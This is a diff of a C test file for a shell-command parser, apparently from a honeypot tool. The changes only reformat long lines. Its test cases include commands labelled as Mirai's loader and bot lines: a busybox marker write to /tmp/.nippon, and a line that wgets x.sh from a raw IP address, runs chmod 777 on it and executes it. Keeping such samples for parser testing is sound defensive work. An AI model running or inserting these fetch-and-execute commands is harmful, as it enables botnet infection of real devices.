@@ -99,12 +99,14 @@ static void dump(const struct trap_sh_list *l, struct mm_buf *b)
 			if (j > 0)
 				mm_buf_puts(b, "| ");
 			for (k = 0; k < c->nassign; k++)
-				mm_buf_printf(b, "A{%.*s} ", (int)c->assign[k].len, c->assign[k].text);
+				mm_buf_printf(b, "A{%.*s} ", (int)c->assign[k].len,
+					      c->assign[k].text);
 			for (k = 0; k < c->nword; k++)
 				mm_buf_printf(b, "W{%.*s} ", (int)c->word[k].len, c->word[k].text);
 			for (k = 0; k < c->nredir; k++)
-				mm_buf_printf(b, "R{%d%s%.*s} ", c->redir[k].fd, ops[c->redir[k].op],
-					      (int)c->redir[k].target.len, c->redir[k].target.text);
+				mm_buf_printf(b, "R{%d%s%.*s} ", c->redir[k].fd,
+					      ops[c->redir[k].op], (int)c->redir[k].target.len,
+					      c->redir[k].target.text);
 		}
 		mm_buf_printf(b, "%s\n", conn[l->item[i].next]);
 	}
@@ -118,7 +120,8 @@ static const struct {
 	{"# only a comment", ""},
 	{"echo a; ls -l && x || y &", "W{echo} W{a} ;\nW{ls} W{-l} &&\nW{x} ||\nW{y} &\n"},
 	/* Mirai's loader and bot lines. */
-	{"/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon",
+	{"/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; "
+	 "/bin/busybox cat /tmp/.nippon",
 	 "W{/bin/busybox} W{echo} W{-e} W{'\\x41\\x4b\\x34\\x37'} R{1>/tmp/.nippon} ;\n"
 	 "W{/bin/busybox} W{cat} W{/tmp/.nippon} ;\n"},
 	{"cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh",
